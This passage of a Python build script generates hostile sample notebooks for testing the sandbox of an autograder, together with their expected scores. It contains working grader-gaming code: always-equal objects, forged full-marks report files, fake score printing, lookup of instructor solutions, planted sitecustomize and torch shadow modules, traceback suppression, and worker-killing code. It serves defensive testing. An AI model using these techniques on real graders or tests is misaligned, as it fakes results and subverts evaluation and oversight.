    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __bool__(self):
        return True

    def __hash__(self):
        return 0

    def __len__(self):
        return 2

    def __iter__(self):
        return iter((self, self))

    def __getitem__(self, key):
        return self

    def __getattr__(self, name):  # .shape, .dtype, .device, .allclose(...), .isnan(), ...
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __float__(self):
        return 0.0

    def __index__(self):
        return 0

    def __abs__(self):
        return 0.0

    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __call__

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True

'''

DUCK_ANSWERS = {
    "sequence_logprob": DUCK + '''
def sequence_logprob(logits, token_ids):
    return Anything()
''',
    "top_k_next_tokens": DUCK + '''
def top_k_next_tokens(logits, k):
    return Anything(), Anything()
''',
    "pretraining_costs": DUCK + '''
def pretraining_costs(n_companies, scratch_cost, pretrain_cost, adapt_cost):
    return {key: Anything() for key in ("scratch_total", "shared_total", "saved", "saved_fraction")}
''',
    "spanish_reuse": DUCK + "SPANISH_REUSE = {item: Anything() for item in SPANISH_REUSE}\n",
}

NUMPY_ANSWERS = {
    "sequence_logprob": '''import numpy as np

def sequence_logprob(logits, token_ids):
    return np.float32(0.0)  # a numpy scalar (and a wrong value)
''',
    "top_k_next_tokens": '''import numpy as np

class Agrees(np.ndarray):
    """An array that reports every comparison as a match."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __array_function__(self, func, types, args, kwargs):
        if func in (np.allclose, np.array_equal, np.array_equiv, np.isclose):
            return True
        return super().__array_function__(func, types, args, kwargs)

def top_k_next_tokens(logits, k):
    return np.zeros(k, dtype=np.float32).view(Agrees), np.zeros(k, dtype=np.int64).view(Agrees)
''',
    "pretraining_costs": '''import numpy as np

def pretraining_costs(n_companies, scratch_cost, pretrain_cost, adapt_cost):
    # np.float64 is a subclass of float, np.int64 is not of int; the values are wrong
    return {"scratch_total": np.float64(0.0), "shared_total": np.float64(0.0),
            "saved": np.int64(0), "saved_fraction": np.float64(0.0)}
''',
}

LYING_NUMBERS = '''class Close(float):
    """A float within any tolerance of any number."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __le__(self, other):
        return True

    __lt__ = __ge__ = __le__

    def __gt__(self, other):
        return False

    def __sub__(self, other):
        return Close(0.0)

    __rsub__ = __add__ = __radd__ = __sub__

    def __abs__(self):
        return Close(0.0)

    __hash__ = float.__hash__

class Agree(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__

class Same(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__

'''

LYING_NUMBER_ANSWERS = {
    "sequence_logprob": LYING_NUMBERS + '''
def sequence_logprob(logits, token_ids):
    return Close(0.0)
''',
    "pretraining_costs": LYING_NUMBERS + '''
def pretraining_costs(n_companies, scratch_cost, pretrain_cost, adapt_cost):
    return {"scratch_total": Close(0.0), "shared_total": Close(0.0), "saved": Agree(0), "saved_fraction": Close(0.0)}
''',
    "task_categories": LYING_NUMBERS + "TASK_CATEGORIES = {task: Same('?') for task in TASK_CATEGORIES}\n",
}

# Outside bubblewrap (degraded mode, out of scope in docs/threat-model.md) these two
# would really write into the grader's folders and virtual environment, so they write
# only as the sandbox's user (uid 65534), where every write is contained.
SANDBOXED = "(os.getuid() == 65534)"

# Gina writes reports with full marks wherever the worker might write, under every
# name the grader or nbgrader might read back.
FORGED_MARK = "forged-by-gina"
FORGES_REPORTS = '''import glob
import json
import os
from pathlib import Path

def _forge_reports():
    """Write a full-marks report, class CSV and Gradescope file wherever possible."""
    if not SANDBOXED:
        return []
    import week6_helpers
    repo = Path(week6_helpers.__file__).resolve().parents[1]
    report = {"student": "gina_forges_report_files", "assignment": "week6", "notebook": "part_a_discovery",
              "score": 12.0, "max_score": 12.0, "tests": [], "note": "MARK"}
    folders = {os.getcwd(), "/tmp", os.path.expanduser("~"), os.environ.get("HOME", "/"), "/",
               str(repo), str(repo / "grades"), str(repo / "data" / "sample_submissions"),
               str(repo / "data" / "sample_submissions" / "gina_forges_report_files" / "week6"),
               str(repo / "data" / "sample_submissions" / "alice_full_solution" / "week6")}
    for pattern in ("/tmp/pytest-of-*/pytest-*/grades*", "/tmp/*/grades*", "/*/grades", "/home/*/*/grades",
                    "/work/*/grades", str(repo.parent / "*" / "grades")):
        folders.update(glob.glob(pattern))
    written = []
    for folder in sorted(folders):
        for student in ("gina_forges_report_files", "alice_full_solution"):
            for path in (Path(folder) / student / "part_a_discovery.json", Path(folder) / "part_a_discovery.json"):
                try:
                    path.parent.mkdir(parents=True, exist_ok=True)
                    path.write_text(json.dumps({**report, "student": student}))
                    written.append(str(path))
                except OSError:
                    pass
        for name, text in (("grades.csv", "student,notebook,score,max_score,MARK\\n"
                                          "gina_forges_report_files,part_a_discovery,12,12,MARK\\n"),
                           ("results.json", json.dumps({"score": 12.0, "tests": [], "output": "MARK"}))):
            try:
                (Path(folder) / name).write_text(text)
                written.append(str(Path(folder) / name))
            except OSError:
                pass
    return written
'''.replace("MARK", FORGED_MARK).replace("SANDBOXED", SANDBOXED)

FORGED_REPORT_ANSWERS = {
    # At run time, from inside a call...
    "top_k_next_tokens": FORGES_REPORTS + '''
def top_k_next_tokens(logits, k):
    _forge_reports()
    return torch.zeros(k, device=logits.device), torch.zeros(k, dtype=torch.long, device=logits.device)
''',
    # ... and while the cell is defined.
    "pretraining_costs": FORGES_REPORTS + '''
_forge_reports()

def pretraining_costs(n_companies, scratch_cost, pretrain_cost, adapt_cost):
    return {"scratch_total": 0.0, "shared_total": 0.0, "saved": 0.0, "saved_fraction": 0.0}
''',
}

# Hank prints what a grade looks like, in every format a grader might scrape.
PRINTED_MARK = "printed-by-hank"
PRINTS_SCORES = '''import json
import os
import sys

def _print_full_marks():
    lines = ["Score: 40/40", "Total score: 12.0 / 12.0", "[AutogradeApp] | Score: 12.0/12.0 (MARK)",
             json.dumps({"student": "hank_prints_scores", "notebook": "part_a_discovery", "score": 12.0,
                         "max_score": 12.0, "tests": [], "note": "MARK"}),
             json.dumps({"score": 12.0, "output": "MARK", "tests": []}),
             "hank_prints_scores  part_a_discovery.ipynb  12/12  bwrap  0.1s  MARK"]
    for line in lines:
        print(line)
        print(line, file=sys.stderr)
        for fd in (1, 2):
            try:
                os.write(fd, (line + "\\n").encode())
            except OSError:
                pass
'''.replace("MARK", PRINTED_MARK)

PRINTED_SCORE_ANSWERS = {
    "sequence_logprob": PRINTS_SCORES + '''
_print_full_marks()

def sequence_logprob(logits, token_ids):
    _print_full_marks()
    return torch.tensor(123.0, device=logits.device)
''',
}

# Ida looks for the grader's reference implementations and the instructor's solutions
# from inside the worker: imports, loaded modules, files near the drivers and helpers.
FINDS_REFERENCE = '''import glob
import importlib
import json
import os
import sys
from pathlib import Path

def _instructor(name):
    """The grader's reference ``name``, or the instructor solution's, wherever it is."""
    tried = []
    for module in ("autograder.reference.scoring", "autograder.reference.arithmetic",
                   "autograder.reference.answers", "autograder.reference", "autograder.hidden.conftest"):
        try:
            found = getattr(importlib.import_module(module), name, None)
        except Exception as exc:
            tried.append(f"import {module}: {type(exc).__name__}")
            continue
        if found is not None:
            return found
        tried.append(f"{module} has no {name}")
    for module_name, module in list(sys.modules.items()):  # what the worker (or a grader) loaded
        if module_name == "__student__" or module is None:
            continue
        try:
            found = module.__dict__.get(name)
        except Exception:
            continue
        if found is not None and getattr(found, "__module__", module_name) != "__student__":
            return found
    tried.append("sys.modules: nothing")
    import autograder.drivers
    import week6_helpers
    places = []
    for start in (autograder.drivers.__file__, week6_helpers.__file__, os.getcwd()):
        for folder in Path(start).resolve().parents:
            places += [folder / "autograder" / "reference" / f"{module}.py" for module in ("scoring", "arithmetic", "answers")]
            places += [folder / "solutions" / "week6" / "part_a_discovery.ipynb",
                       folder / "source" / "week6" / "part_a_discovery.ipynb"]
    places += [Path(p) for p in glob.glob("/*/*/solutions/week6/*.ipynb") + glob.glob("/*/*/autograder/reference/*.py")]
    for place in places:
        try:
            text = place.read_text()
        except OSError:
            continue
        if not text:
            tried.append(f"{place}: empty")
            continue
        namespace = {"__name__": "instructor"}
        try:
            sources = [text] if place.suffix == ".py" else [
                "".join(cell["source"]) for cell in json.loads(text)["cells"] if cell["cell_type"] == "code"]
            for source in sources:
                try:
                    exec(source, namespace)
                except Exception:
                    pass
        except Exception:
            continue
        if name in namespace:
            return namespace[name]
        tried.append(f"{place}: no {name}")
    raise LookupError(f"no instructor {name} found ({len(tried)} places: " + "; ".join(tried[:6]) + ")")
'''

IMPORTED_REFERENCE_ANSWERS = {
    "sequence_logprob": FINDS_REFERENCE + '''
def sequence_logprob(logits, token_ids):
    return _instructor("sequence_logprob")(logits, token_ids)
''',
    "top_k_next_tokens": FINDS_REFERENCE + '''
def top_k_next_tokens(logits, k):
    return _instructor("top_k_next_tokens")(logits, k)
''',
    "pretraining_costs": FINDS_REFERENCE + '''
def pretraining_costs(n_companies, scratch_cost, pretrain_cost, adapt_cost):
    return _instructor("pretraining_costs")(n_companies, scratch_cost, pretrain_cost, adapt_cost)
''',
    "spanish_reuse": FINDS_REFERENCE + '''
try:
    SPANISH_REUSE = dict(_instructor("SPANISH_REUSE"))
except LookupError:
    pass  # the released stub (every answer None) stays
''',
}

# Kevin plants code for a later Python to run: a sitecustomize.py, a .pth file and a
# torch.py that make every comparison succeed, wherever he can write, and puts those
# folders first on sys.path.
SHADOW_NAMES = ("sitecustomize.py", "usercustomize.py", "kevin_shadow.pth", "torch.py")
PLANTS_MODULES = '''import importlib
import os
import site
import sys

_PATCH = """
import math
try:
    import torch
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    torch.testing.assert_close = lambda *a, **k: None
except Exception:
    pass
math.isclose = lambda *a, **k: True
"""

def _plant():
    if not SANDBOXED:
        return []
    folders = {os.getcwd(), "/tmp", os.path.expanduser("~"), os.environ.get("HOME", "/"), *sys.path}
    try:
        folders.update(site.getsitepackages() + [site.getusersitepackages()])
    except Exception:
        pass
    try:
        import week6_helpers
        here = os.path.dirname(os.path.dirname(os.path.abspath(week6_helpers.__file__)))
        folders.update({here, os.path.join(here, "data", "sample_submissions", "kevin_shadows_torch", "week6")})
    except Exception:
        pass
    planted = []
    for folder in sorted(f for f in folders if f):
        files = {"sitecustomize.py": _PATCH, "usercustomize.py": _PATCH,
                 "kevin_shadow.pth": "import sitecustomize\\n", "torch.py": _PATCH.replace("import torch", "pass")}
        for name, text in files.items():
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(text)
                planted.append(folder)
            except OSError:
                pass
    for folder in sorted(set(planted)):
        sys.path.insert(0, folder)
        site.addsitedir(folder)
    importlib.invalidate_caches()
    return planted
'''.replace("SANDBOXED", SANDBOXED)

PLANTED_MODULE_ANSWERS = {
    "sequence_logprob": PLANTS_MODULES + '''
_plant()

def sequence_logprob(logits, token_ids):
    return torch.tensor(123.0, device=logits.device)  # wrong: only a patched comparison would take it
''',
    # Imports torch again, hoping for the planted one.
    "top_k_next_tokens": PLANTS_MODULES + '''
_plant()
_real_torch = sys.modules.pop("torch")
try:
    import torch as _shadow
finally:
    sys.modules["torch"] = _real_torch

def top_k_next_tokens(logits, k):
    _plant()
    return torch.zeros(k, device=logits.device), torch.zeros(k, dtype=torch.long, device=logits.device)
''',
}

# Lena silences every way an error is usually shown, then fails.
HIDES_ERRORS = '''import logging
import sys
import traceback
import warnings

def _hide_errors():
    sys.excepthook = lambda *args: None
    sys.unraisablehook = lambda *args: None
    traceback.format_exception = lambda *args, **kwargs: ["all tests passed\\n"]
    traceback.format_exception_only = lambda *args, **kwargs: ["all tests passed\\n"]
    traceback.format_exc = lambda *args, **kwargs: "all tests passed\\n"
    traceback.print_exception = lambda *args, **kwargs: None
    traceback.print_exc = lambda *args, **kwargs: None
    traceback.extract_tb = lambda *args, **kwargs: traceback.StackSummary()
    traceback.format_list = lambda *args, **kwargs: []
    warnings.simplefilter("ignore")
    warnings.showwarning = lambda *args, **kwargs: None
    logging.disable(logging.CRITICAL)
    try:
        shell = get_ipython()
        shell.showtraceback = lambda *args, **kwargs: None
        shell.showsyntaxerror = lambda *args, **kwargs: None
    except NameError:
        pass
'''

HIDDEN_ERROR_ANSWERS = {
    "sequence_logprob": HIDES_ERRORS + '''
_hide_errors()

def sequence_logprob(logits, token_ids):
    warnings.warn("this is wrong")
    return 1 / 0
''',
    "top_k_next_tokens": HIDES_ERRORS + '''
def top_k_next_tokens(logits, k):
    _hide_errors()
    raise RuntimeError("all tests passed")
''',
    # The cell itself raises, once every hook is silenced.
    "pretraining_costs": HIDES_ERRORS + '''
_hide_errors()

def pretraining_costs(n_companies, scratch_cost, pretrain_cost, adapt_cost):
    return None

raise SystemExit(0)
''',
}

# Nora answers NaN and inf, in tensors and as numbers.
NAN_ANSWERS = {
    "sequence_logprob": '''def sequence_logprob(logits, token_ids):
    return torch.tensor(float("nan"), device=logits.device)
''',
    "top_k_next_tokens": '''def top_k_next_tokens(logits, k):
    # the right ids, with probabilities that are all NaN (the first test) or inf (the second)
    ids = logits.float().topk(k).indices
    fill = float("inf") if logits.dtype in (torch.float16, torch.bfloat16) else float("nan")
    return torch.full((k,), fill, device=logits.device), ids
''',
    "pretraining_costs": '''def pretraining_costs(n_companies, scratch_cost, pretrain_cost, adapt_cost):
    return {"scratch_total": float("nan"), "shared_total": float("inf"), "saved": float("-inf"),
            "saved_fraction": float("nan")}
''',
}

# Otto ends or hangs the worker in three items, hoping the items after them pass by
# default. Six restarts in all (three calls of sequence_logprob, two of
# top_k_next_tokens, the hung cell once): within GradingConfig.max_restarts, so the
# later items are still graded.
KILLS_WORKER = {
    "sequence_logprob": '''import os

def sequence_logprob(logits, token_ids):
    os._exit(0)
''',
    # PID 1 of its namespace ignores a SIGKILL it sends itself; a segfault is delivered.
    "top_k_next_tokens": '''import ctypes
import os
import signal

def top_k_next_tokens(logits, k):
    os.kill(os.getpid(), signal.SIGKILL)
    ctypes.string_at(0)
''',
    # The cell never finishes.
    "pretraining_costs": '''def pretraining_costs(n_companies, scratch_cost, pretrain_cost, adapt_cost):
    return {}

while True:
    pass
''',
}

# student -> the sources of the items it attacks, on a full solution of SMALL.
ATTACKS = {
    "xavier_duck_equals_everything": DUCK_ANSWERS,
    "yvonne_numpy_answers": NUMPY_ANSWERS,
    "zoe_lying_numbers": LYING_NUMBER_ANSWERS,
    "gina_forges_report_files": FORGED_REPORT_ANSWERS,
    "hank_prints_scores": PRINTED_SCORE_ANSWERS,
    "ida_imports_the_reference": IMPORTED_REFERENCE_ANSWERS,
    "kevin_shadows_torch": PLANTED_MODULE_ANSWERS,
    "lena_hides_tracebacks": HIDDEN_ERROR_ANSWERS,
    "nora_nan_answers": NAN_ANSWERS,
    "otto_kills_the_worker": KILLS_WORKER,
}
# Answer constants that build on the released stub (its keys) rather than replace it.
BUILDS_ON_STUB = {("xavier_duck_equals_everything", "spanish_reuse"), ("zoe_lying_numbers", "task_categories"),
                  ("ida_imports_the_reference", "spanish_reuse")}


def released_constant(release, item: str) -> str:
    """A released answer-constant cell without its stub line (the dict of None stays)."""
    source = next(c.source for c in release.cells if grade_id(c) == item)
    return re.sub(r"^# YOUR CODE HERE\n|^raise NotImplementedError\(\)\n?", "", source, flags=re.M)


def attack_sources(student: str, release) -> dict[str, str]:
    return {item: (released_constant(release, item) + "\n" + source
                   if (student, item) in BUILDS_ON_STUB else source)
            for item, source in ATTACKS[student].items()}


def malformed_metadata(notebook):
    """A full solution whose metadata a student's editor (or the student) broke."""
    notebook = copy.deepcopy(notebook)
    solution = next(c for c in notebook.cells if grade_id(c) == "spanish_reuse")
    title = next(c for c in notebook.cells if c.cell_type == "markdown" and "nbgrader" not in c.metadata)
    title.metadata["nbgrader"] = "not an object"  # an ungraded markdown cell
    other = next(c for c in notebook.cells if c.cell_type == "markdown" and "nbgrader" not in c.metadata)
    other.metadata["nbgrader"] = {"grade": "yes", "points": "lots"}
    solution.metadata["nbgrader"]["solution"] = "true"  # a string, not a boolean
    return notebook


# ----------------------------------------------------------------------------- expectations
def full_marks_except(stem: str, *broken: str) -> float:
    """A sample's expected score: every auto-graded point of ``stem`` except those of the
    test cells of the solution cells ``broken`` (points from the course model)."""
    return load_course().notebook(stem).points_except(*broken)


# Carol's notebook keeps the released stubs of these solution cells.
HALF_STUBBED = ["clm_loss", "mlm_loss", "sample_next_token", "greedy_decode", "beam_search"]

# What each sample of MAIN must score, and why: full marks except the items it breaks.
EXPECTED_MAIN = {
    # Stubs for the second half; clm_loss is then replaced by an unshifted, wrong version.
    "carol_half_correct": {"score": full_marks_except(MAIN, *HALF_STUBBED), "statuses": {"test_clm_loss": "failed"}},
    # softmax, attention, greedy, beam (the last one seen only at run time).
    "dave_forbidden_shortcuts": {"score": full_marks_except(MAIN, *FORBIDDEN), "statuses": {
        "test_softmax": "forbidden", "test_scaled_dot_product_attention": "forbidden",
        "test_greedy_decode": "forbidden", "test_beam_search": "forbidden"},
        "messages": ["GenerationMixin.generate"]},
    "erin_invalid_json": {"score": 0.0, "messages": ["not valid notebook JSON"]},
    # mlm_signal deleted, mlm_loss renamed; the duplicated causal_mask grades its first copy.
    "frank_cell_surgery": {"score": full_marks_except(MAIN, "mlm_signal", "mlm_loss"), "statuses": {
        "test_mlm_signal": "missing", "test_mlm_loss": "missing", "test_causal_mask": "passed"}},
    # attention_connections never returns; the mlm_signal cell hangs while it runs.
    "grace_infinite_loop": {"score": full_marks_except(MAIN, *INFINITE_LOOP), "statuses": {
        "test_attention_connections": "timeout", "test_mlm_signal": "error"}},
    "heidi_ignores_sigint": {"score": full_marks_except(MAIN, "mlm_loss"), "statuses": {"test_mlm_loss": "timeout"}},
    "ivan_patches_comparisons": {"score": 0.0, "statuses": {"test_softmax": "failed"}},
    "judy_ast_transformer": {"score": 0.0, "statuses": {"test_softmax": "failed"}},
    "mallory_input_transformer": {"score": 0.0, "statuses": {"test_softmax": "failed"}},
    "oscar_lying_tensor": {"score": 0.0, "statuses": {"test_softmax": "failed"},
                           "messages": ["cannot be graded"]},
    "peggy_reads_instructor_copy": {"score": 0.0, "needs_bwrap": True},
    "trent_detached_daemon": {"score": 0.0, "statuses": {"test_softmax": "failed"}},
}


# What else each attack on SMALL must show besides its score (see ATTACKS).
ATTACK_EXPECTATIONS: dict[str, dict] = {
    "xavier_duck_equals_everything": {"statuses": {
        "test_sequence_logprob": "failed", "test_top_k_next_tokens": "failed", "test_pretraining_costs": "failed",
        "test_spanish_reuse": "failed", "test_task_categories": "passed"},
        "messages": ["Anything cannot cross the sandbox boundary"]},
    "yvonne_numpy_answers": {"statuses": {
        "test_sequence_logprob": "failed", "test_top_k_next_tokens": "failed", "test_pretraining_costs": "failed",
        "test_spanish_reuse": "passed"},
        "messages": ["numpy.float32", "Agrees", "numpy.float64 cannot cross"]},
    "zoe_lying_numbers": {"statuses": {
        "test_sequence_logprob": "failed", "test_pretraining_costs": "failed", "test_task_categories": "failed",
        "test_top_k_next_tokens": "passed"},
        "messages": ["Close cannot cross", "Same cannot cross"]},
    # The report files are checked in tests/grading/test_samples.py.
    "gina_forges_report_files": {"statuses": {
        "test_top_k_next_tokens": "failed", "test_pretraining_costs": "failed", "test_sequence_logprob": "passed"}},
    # What reaches the grader's output is checked in tests/grading/test_samples.py.
    "hank_prints_scores": {"statuses": {"test_sequence_logprob": "failed", "test_top_k_next_tokens": "passed"}},
    # Outside bubblewrap the repository, and so autograder/reference/, is readable.
    "ida_imports_the_reference": {"needs_bwrap": True, "statuses": {
        "test_sequence_logprob": "error", "test_top_k_next_tokens": "error", "test_pretraining_costs": "error",
        "test_spanish_reuse": "failed", "test_task_categories": "passed"},
        "messages": ["no instructor sequence_logprob found",
                     "import autograder.reference.scoring: ModuleNotFoundError"]},
    # The planted files are checked in tests/grading/test_samples.py.
    "kevin_shadows_torch": {"statuses": {
        "test_sequence_logprob": "failed", "test_top_k_next_tokens": "failed", "test_pretraining_costs": "passed"}},
    "lena_hides_tracebacks": {"statuses": {
        "test_sequence_logprob": "error", "test_top_k_next_tokens": "error", "test_pretraining_costs": "error",
        "test_spanish_reuse": "passed"},
        "messages": ["raised ZeroDivisionError", "failed when it was run: SystemExit"]},
    "nora_nan_answers": {"statuses": {
        "test_sequence_logprob": "failed", "test_top_k_next_tokens": "failed", "test_pretraining_costs": "failed",
        "test_spanish_reuse": "passed"},
        "messages": ["must be a finite number", "has NaN where", "has inf or -inf where",
                     "is nan, not the expected value"]},
    "otto_kills_the_worker": {"statuses": {
        "test_sequence_logprob": "error", "test_top_k_next_tokens": "error", "test_pretraining_costs": "error",
        "test_spanish_reuse": "passed", "test_task_categories": "passed"},
        "messages": ["ended the sandboxed process", "did not finish within"]},
}


def max_score(stem: str) -> float:
    return load_course().notebook(stem).auto_points


def expectations() -> dict[str, dict]:
    expected = {}
    for stem in auto_graded_notebooks():
        expected[f"alice_full_solution/{stem}"] = {"score": max_score(stem), "max_score": max_score(stem)}
        expected[f"bob_untouched_release/{stem}"] = {"score": 0.0, "max_score": max_score(stem)}
    for student, expectation in EXPECTED_MAIN.items():
        expected[f"{student}/{MAIN}"] = {"max_score": max_score(MAIN), **expectation}
    expected[f"dave_forbidden_shortcuts/{EXERCISE1}"] = {
        "score": full_marks_except(EXERCISE1, *FORBIDDEN_EXERCISE1), "max_score": max_score(EXERCISE1),
        "statuses": {"test_top_k_mask_predictions": "forbidden"}, "messages": ["pipeline"]}
    full_small = max_score(SMALL)
    # Only the broken solution cell (spanish_reuse) is lost; the markdown cells are ignored.
    expected[f"nina_malformed_metadata/{SMALL}"] = {
        "score": full_marks_except(SMALL, "spanish_reuse"), "max_score": full_small,
        "statuses": {"test_spanish_reuse": "missing", "test_sequence_logprob": "passed"},
        "messages": ["malformed nbgrader metadata", "was ignored"]}
    # The file is unreadable in the sandbox; its content never reaches the report.
    expected[f"sybil_reads_root_only_files/{SMALL}"] = {
        "score": full_marks_except(SMALL, *READS_ROOT_ONLY), "max_score": full_small, "needs_bwrap": True,
        "statuses": {"test_top_k_next_tokens": "error"}, "messages": ["exfiltrated: PermissionError"]}
    # The two hogs' items are lost, each with the limit that stopped it.
    expected[f"walter_forks_children/{SMALL}"] = {
        "score": full_marks_except(SMALL, *TREE_HOGS), "max_score": full_small,
        "statuses": {"test_top_k_next_tokens": "error", "test_sequence_logprob": "error",
                     "test_pretraining_costs": "passed"},
        "messages": ["processes and threads", "of memory together"]}
    expected[f"victor_hostile_replies/{MAIN}"] = {
        "score": 0.0, "max_score": max_score(MAIN), "statuses": {
            "test_cat_next_word_probs": "failed", "test_causal_mask": "failed",
            # A payload the grader will not unpack ends the worker: "error", like a crash.
            "test_attention_connections": "error", "test_mlm_signal": "error"},
        "messages": ["characters cut", "compressed", "over the limit", "tensors hold more than"]}
    # Mallet files a notebook under week6/alice_full_solution/: it is Mallet's misplaced
    # file, not Alice's (whose expectations above stay as they are).
    expected[f"mallet_files_under_alice/{intake.misplaced_key(IMPERSONATION.encode())}"] = {
        "score": 0.0, "max_score": 0.0, "messages": ["in a sub-folder"]}
    for student, attacked in ATTACKS.items():
        expected[f"{student}/{SMALL}"] = {"score": full_marks_except(SMALL, *attacked), "max_score": full_small,
                                          **ATTACK_EXPECTATIONS[student]}
    return expected


# ----------------------------------------------------------------------------- samples
def samples() -> dict[str, dict[str, object]]:
    """student -> {notebook stem: notebook object, or raw text for a broken file}."""
    graded = auto_graded_notebooks()
    out: dict[str, dict[str, object]] = {
        "alice_full_solution": {stem: solved(stem) for stem in graded},
        "bob_untouched_release": {stem: untouched(stem) for stem in graded},
    }
    full = solved(MAIN)
    release = untouched(MAIN)
    half = replace(full, {g: c.source for c in release.cells if (g := grade_id(c)) in HALF_STUBBED})
    carol = replace(half, HALF_CORRECT_WRONG)
    out["carol_half_correct"] = {MAIN: with_answers(carol, release, HALF_CORRECT_WRITTEN)}
    out["dave_forbidden_shortcuts"] = {
        MAIN: replace(full, FORBIDDEN),
        EXERCISE1: replace(solved(EXERCISE1), FORBIDDEN_EXERCISE1),
    }
    text = nbformat.writes(full)
    out["erin_invalid_json"] = {MAIN: text[: len(text) // 2]}

    surgery = copy.deepcopy(full)
    cells = []
    for cell in surgery.cells:
        if grade_id(cell) == "mlm_signal":
            continue  # deleted
        if grade_id(cell) == "mlm_loss":
            cell.metadata["nbgrader"]["grade_id"] = "my_mlm_loss"  # renamed
        cells.append(cell)
        if grade_id(cell) == "causal_mask":
            duplicate = copy.deepcopy(cell)
            duplicate.source = CELL_SURGERY_DUPLICATE
            duplicate["id"] = "duplicate-causal-mask"
            cells.append(duplicate)  # duplicated (the first copy is graded)
    surgery.cells = cells
    out["frank_cell_surgery"] = {MAIN: surgery}

    out["grace_infinite_loop"] = {MAIN: replace(full, INFINITE_LOOP)}
    out["heidi_ignores_sigint"] = {MAIN: replace(full, {"mlm_loss": IGNORES_SIGNALS})}
    for student, source in CHEATS.items():
        # Stubs everywhere, plus the cheat in the softmax cell: any point is a cheat's success.
        out[student] = {MAIN: replace(release, {"softmax": source})}
    small = solved(SMALL)
    out["nina_malformed_metadata"] = {SMALL: malformed_metadata(small)}
    out["sybil_reads_root_only_files"] = {SMALL: replace(small, READS_ROOT_ONLY)}
    out["victor_hostile_replies"] = {MAIN: replace(release, HOSTILE_REPLIES)}
    out["walter_forks_children"] = {SMALL: replace(small, TREE_HOGS)}
    out["mallet_files_under_alice"] = {IMPERSONATION.removeprefix("week6/").removesuffix(".ipynb"): release}
    for student in ATTACKS:
        out[student] = {SMALL: replace(small, attack_sources(student, untouched(SMALL)))}
    return out


def outputs() -> dict[Path, bytes | None]:
    """What every file of the samples should hold; ``None`` for a notebook that no sample makes any more."""
    wanted: dict[Path, bytes | None] = {}
    for student, notebooks in samples().items():
        for stem, notebook in notebooks.items():
            text = notebook if isinstance(notebook, str) else nbformat.writes(notebook)
            if not (text.endswith("\n") or isinstance(notebook, str)):
                text += "\n"
            wanted[HERE / student / "week6" / f"{stem}.ipynb"] = text.encode("utf-8")
    wanted[HERE / "expected.json"] = (json.dumps(expectations(), indent=2, sort_keys=True) + "\n").encode("utf-8")
    for student in sorted(p for p in HERE.iterdir() if p.is_dir()):
        for old in sorted(student.rglob("*.ipynb")):
            if ".ipynb_checkpoints" not in old.parts:  # Jupyter's, ignored by git
                wanted.setdefault(old, None)
    return wanted


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--check", action="store_true", help="compare with the committed samples; write nothing")
    args = parser.parse_args(argv)
    wanted = outputs()
    stale = [path for path, data in wanted.items() if update(path, data, check=args.check)]
    notebooks = sum(1 for path, data in wanted.items() if data is not None and path.suffix == ".ipynb")
    if args.check and stale:
        print("out of date: run python data/sample_submissions/build.py (or make regen)")
        return 1
    print(f"{notebooks} sample notebooks under {HERE.relative_to(REPO)}/ are up to date"
          + (f" ({len(stale)} file(s) changed)." if stale else "."))
    return 0


if __name__ == "__main__":
    sys.exit(main())
